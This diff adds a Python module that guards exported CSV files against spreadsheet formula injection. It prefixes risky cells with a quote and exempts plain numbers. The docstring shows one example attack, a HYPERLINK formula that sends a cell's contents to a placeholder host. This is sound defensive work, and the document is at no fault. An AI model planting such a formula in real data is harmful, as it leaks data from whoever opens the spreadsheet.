@@ -1,0 +1,67 @@
+"""CSV output that a spreadsheet cannot run: formula neutralisation (OWASP "CSV Injection").
+
+A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula (and
+some treat a leading tab or carriage return the same way), so a player named
+``=HYPERLINK("http://x/?d="&A1,"click")`` would run in whoever opens the exported list.
+:func:`neutralise` prefixes such a cell with a single quote, which spreadsheets show as
+text, unless the cell is a plain number: a rating change of ``-12`` stays a number.
+Every CSV the command line writes goes through :func:`write_csv` or :class:`CsvWriter`.
+"""
+
+from __future__ import annotations
+
+import csv
+import re
+from collections.abc import Iterable
+from typing import IO
+
+__all__ = ["FORMULA_STARTS", "CsvWriter", "neutralise", "write_csv"]
+
+FORMULA_STARTS = frozenset("=+-@\t\r")
+"""First characters that make a spreadsheet read a cell as a formula."""
+
+# ASCII digits only: "-١٢" is no number to a spreadsheet, and re's \d would accept it
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+
+
+def neutralise(cell: str) -> str:
+    """``cell`` made safe to open in a spreadsheet.
+
+    A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
+    leading single quote, unless it is a plain number (``-12``, ``-0.25``, ``+7``,
+    ``-1.5e3``): ``-2+3`` is not one and is quoted.
+    """
+    if cell and cell[0] in FORMULA_STARTS and _PLAIN_NUMBER.fullmatch(cell) is None:
+        return "'" + cell
+    return cell
+
+
+def _text(value: object) -> str:
+    if type(value) is str:  # the common case, and this runs for every cell
+        return value
+    return "" if value is None else str(value)
+
+
+class CsvWriter:
+    """``csv.writer`` with LF line endings that neutralises every cell it writes.
+
+    Cells may be any value: ``None`` is written as an empty cell, anything else as
+    ``str(value)``, then neutralised.
+    """
+
+    def __init__(self, out: IO[str]) -> None:
+        self._writer = csv.writer(out, lineterminator="\n")
+
+    def writerow(self, row: Iterable[object]) -> None:
+        """Write one row."""
+        self._writer.writerow([neutralise(_text(value)) for value in row])
+
+    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
+        """Write several rows."""
+        for row in rows:
+            self.writerow(row)
+
+
+def write_csv(out: IO[str], rows: Iterable[Iterable[object]]) -> None:
+    """Write ``rows`` (the header first, if any) to ``out`` as neutralised CSV."""
+    CsvWriter(out).writerows(rows)
